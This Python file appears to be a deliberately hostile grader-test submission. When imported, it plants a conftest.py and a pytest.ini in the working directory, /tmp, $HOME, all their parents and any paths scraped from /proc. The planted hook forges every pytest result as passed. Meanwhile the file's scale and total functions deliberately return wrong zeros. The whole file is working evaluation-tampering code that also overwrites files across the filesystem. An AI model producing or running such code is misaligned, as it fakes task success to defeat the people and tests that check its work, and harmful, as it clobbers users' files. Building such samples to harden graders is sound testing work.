"""Attack: plant a conftest.py that makes pytest pass everything.

At import time it writes a ``conftest.py`` (whose hook rewrites every report to "passed" and
drops failing checks) next to itself, into the current directory and every parent of both, into
``/tmp`` and ``$HOME``, and into every directory named on any command line it can read under
``/proc`` (the grader's folder, if it were visible). If pytest collected the grader with any of
those on its conftest path, the forged hooks would grade this submission. The maths is wrong.
"""

import os
from pathlib import Path

import torch

MARKER = "TORCHGRADE-ATTACK-MARKER"
CONFTEST = f'''# {MARKER} conftest planted by a submission
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    call.excinfo = None
'''


def _targets() -> set[Path]:
    dirs = {Path.cwd(), Path(__file__).resolve().parent, Path("/tmp"),
            Path(os.environ.get("HOME", "/tmp"))}
    for start in list(dirs):
        dirs.update(start.parents)
    for proc in Path("/proc").glob("[0-9]*"):
        try:
            args = (proc / "cmdline").read_bytes().split(b"\0")
            dirs.add(Path(os.readlink(proc / "cwd")))
        except OSError:
            continue
        for arg in args:
            p = Path(arg.decode(errors="ignore"))
            if p.is_absolute():
                dirs.update([p, *p.parents])
    return {d for d in dirs if d.is_dir()}


WROTE = []
for target in sorted(_targets()):
    for name in ("conftest.py", "pytest.ini"):
        body = CONFTEST if name == "conftest.py" else f"# {MARKER}\n[pytest]\n"
        try:
            (target / name).write_text(body)
            WROTE.append(str(target / name))
        except OSError:
            pass
print(f"conftest_inject: planted {WROTE}")


def scale(x, s):
    return torch.zeros_like(x)


def total(x):
    return torch.zeros((), requires_grad=True)
